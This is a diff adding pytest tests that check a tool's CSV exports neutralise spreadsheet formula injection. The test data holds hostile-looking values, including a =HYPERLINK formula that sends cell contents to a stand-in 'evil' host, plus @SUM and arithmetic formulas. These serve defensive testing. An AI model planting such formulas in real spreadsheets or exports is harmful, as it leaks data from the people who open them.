@@ -181,3 +181,31 @@ def test_case_draft_of_an_unknown_note_names_the_notes(capsys):
     assert main(["case", "draft", str(SAMPLE_BUNDLE), "N999"]) == 1
     err = capsys.readouterr().err
     assert "N999" in err and "N001" in err and "Traceback" not in err
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_quotes_csv_neutralises_cells_a_spreadsheet_would_evaluate(mini_copy, tmp_path: Path):
+    note = (MINI / "notes" / "N001.md").read_text(encoding="utf-8")
+    bundle = mini_copy({"notes/N001.md": note.replace("客户经理B07谈到，", '=HYPERLINK("http://evil/"&A1,"x")，')
+                        .replace("interviewee: 客户经理B07", "interviewee: '@SUM(A1)'")})
+    out = tmp_path / "quotes.csv"
+    assert main(["quotes", str(bundle), "--csv", str(out)]) == 0
+    row = next(r for r in _csv_rows(out) if r["note_id"] == "N001")
+    assert row["quote"].startswith("'=HYPERLINK(\"http://evil/\"&A1") and row["text"].startswith("'=HYPERLINK")
+    assert row["interviewee"] == "'@SUM(A1)"
+    assert row["position"] == "1"  # numbers stay numbers
+
+
+def test_validate_csv_neutralises_found_values(mini_copy, tmp_path: Path):
+    rides = (MINI / "ride_alongs.csv").read_text(encoding="utf-8")
+    bundle = mini_copy({"ride_alongs.csv": rides.replace("2008-09-15", "=1+1").replace(",45,40,", ",-2+3,+1+1,")})
+    out = tmp_path / "problems.csv"
+    assert main(["validate", str(bundle), "--csv", str(out)]) == 1
+    found = {r["found"] for r in _csv_rows(out)}
+    assert {"'=1+1", "'-2+3", "'+1+1"} <= found, found
+    assert not any(f.startswith(("=", "+", "-", "@")) for f in found)
+    assert all(r["row"].isdigit() for r in _csv_rows(out) if r["row"])  # line numbers are not quoted
